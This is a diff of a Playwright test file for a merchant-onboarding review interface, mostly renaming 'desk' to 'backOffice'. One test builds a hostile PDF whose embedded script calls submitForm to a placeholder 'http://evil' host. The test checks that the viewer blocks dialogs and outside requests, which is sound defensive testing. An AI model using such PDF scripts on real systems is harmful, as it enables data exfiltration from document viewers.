@@ -2,28 +2,28 @@ import { readFileSync } from 'node:fs';
 import type { Locator, Page } from 'playwright-core';
 import { eventually, Onboarding } from '../support';
 import { pdfPages, pngPicture } from '../support/document-pictures';
-import { type Desk, axe, logIn, screenshot, startDesk } from './support';
+import { type BackOffice, axe, logIn, screenshot, startBackOffice } from './support';
 import { CaseMaker, fileOf, listed, type SubmittedCase } from './support/cases';
 
 describe('the documents of a case', () => {
-  let desk: Desk;
+  let backOffice: BackOffice;
   let cases: CaseMaker;
 
   beforeAll(async () => {
-    desk = await startDesk();
+    backOffice = await startBackOffice();
     cases = await CaseMaker.start();
   });
-  afterEach(() => desk.closePages());
+  afterEach(() => backOffice.closePages());
   afterAll(async () => {
-    await desk.stop();
+    await backOffice.stop();
     await cases.files.close();
-    expect(desk.complaints).toEqual([]);
+    expect(backOffice.complaints).toEqual([]);
   });
 
   const open = async (): Promise<{ page: Page; kase: SubmittedCase }> => {
-    const kase = await cases.submitted(desk.merchant);
-    const page = await desk.newPage();
-    await logIn(page, desk.reviewer, kase.path);
+    const kase = await cases.submitted(backOffice.merchant);
+    const page = await backOffice.newPage();
+    await logIn(page, backOffice.reviewer, kase.path);
     return { page, kase };
   };
   const tool = (page: Page, name: string) =>
@@ -118,7 +118,7 @@ describe('the documents of a case', () => {
     const hostile = pdfPages(['Pagina hostil'], {
       script: "app.alert\\('x'\\);this.submitForm\\('http://evil'\\)",
     });
-    const onboarding = new Onboarding(desk.merchant.client);
+    const onboarding = new Onboarding(backOffice.merchant.client);
     const dialogs: string[] = [];
     const foreign: string[] = [];
     page.on('dialog', (dialog) => {
@@ -127,7 +127,7 @@ describe('the documents of a case', () => {
     });
     page.on('request', (request) => {
       const url = request.url();
-      if (!url.startsWith(new URL(desk.url).origin) && !url.startsWith('blob:')) foreign.push(url);
+      if (!url.startsWith(new URL(backOffice.url).origin) && !url.startsWith('blob:')) foreign.push(url);
     });
     await reject(kase, 'social_contract');
     await onboarding.document(kase.id, 'social_contract', cases.pdf(hostile));
@@ -139,7 +139,7 @@ describe('the documents of a case', () => {
   });
 
   const reject = async (kase: SubmittedCase, type: string) => {
-    const { status } = await desk.reviewer.client.post(
+    const { status } = await backOffice.reviewer.client.post(
       `/v1/review/documents/${kase.documents[type] ?? ''}/reject`,
       { code: 'unreadable' },
     );
@@ -148,7 +148,7 @@ describe('the documents of a case', () => {
 
   it('a PDF with a password, and one that is none: said, and still to download', async () => {
     const { page, kase } = await open();
-    const onboarding = new Onboarding(desk.merchant.client);
+    const onboarding = new Onboarding(backOffice.merchant.client);
     await reject(kase, 'social_contract');
     await onboarding.document(
       kase.id,
@@ -171,7 +171,7 @@ describe('the documents of a case', () => {
 
   it('a file that cannot be fetched is said, and asked for again', async () => {
     const { page, kase } = await open();
-    const onboarding = new Onboarding(desk.merchant.client);
+    const onboarding = new Onboarding(backOffice.merchant.client);
     await reject(kase, 'cnpj_card');
     const file_url = `${cases.files.origin}/late-${kase.id}.png`;
     await onboarding.document(kase.id, 'cnpj_card', { ...cases.png(), file_url });
@@ -191,7 +191,7 @@ describe('the documents of a case', () => {
 
   it('a file that is no document, and one that is too large', async () => {
     const { page, kase } = await open();
-    const onboarding = new Onboarding(desk.merchant.client);
+    const onboarding = new Onboarding(backOffice.merchant.client);
     await reject(kase, 'cnpj_card');
     await onboarding.document(
       kase.id,
@@ -210,7 +210,7 @@ describe('the documents of a case', () => {
 
   it('replaced versions are one press away, and get no verdict', async () => {
     const { page, kase } = await open();
-    const onboarding = new Onboarding(desk.merchant.client);
+    const onboarding = new Onboarding(backOffice.merchant.client);
     await reject(kase, 'social_contract');
     await onboarding.document(kase.id, 'social_contract', cases.pdf(pdfPages(['Versao nova'])));
     await page.reload();
